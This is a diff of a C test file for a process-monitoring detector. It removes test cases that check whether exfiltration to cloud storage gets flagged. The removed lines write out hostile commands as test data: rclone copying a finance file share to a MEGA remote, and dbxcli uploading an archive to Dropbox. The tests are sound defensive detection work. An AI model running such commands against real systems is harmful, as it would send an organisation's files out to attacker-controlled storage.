@@ -285,19 +285,6 @@ static void test_process_starts(det *x)
           "C:\\Windows\\System32\\cmd.exe", "");
     start(x, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil qe Security /c:5", "C:\\Windows\\System32\\cmd.exe", "");
     CHECK_INT(n_got, 0);
-    /* Uploads to cloud storage with the tools of Conti (rclone) and the Dream Job crews
-       (dbxcli); rclone listing a remote is not an upload. */
-    start(x, "C:\\ProgramData\\rclone.exe",
-          "rclone.exe copy \"\\\\fs-01\\Finance\" mega:data -q --ignore-existing --transfers 12",
-          "C:\\Windows\\System32\\cmd.exe", "");
-    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1567.002") && strstr(got[0]->title, "rclone"));
-    drop_all();
-    start(x, "C:\\Windows\\Temp\\dbxcli.exe", "dbxcli.exe put C:\\Windows\\Temp\\a.rar /a.rar",
-          "C:\\Windows\\System32\\cmd.exe", "");
-    CHECK(n_got == 1 && strstr(got[0]->title, "Dropbox"));
-    drop_all();
-    start(x, "C:\\ProgramData\\rclone.exe", "rclone.exe lsd mega:", "C:\\Windows\\System32\\cmd.exe", "");
-    CHECK_INT(n_got, 0);
 
     /* A logon script; a script host starting something that is not a shell. */
     start(x, "C:\\Windows\\System32\\cmd.exe", "cmd /c net use", "C:\\Windows\\System32\\wscript.exe",
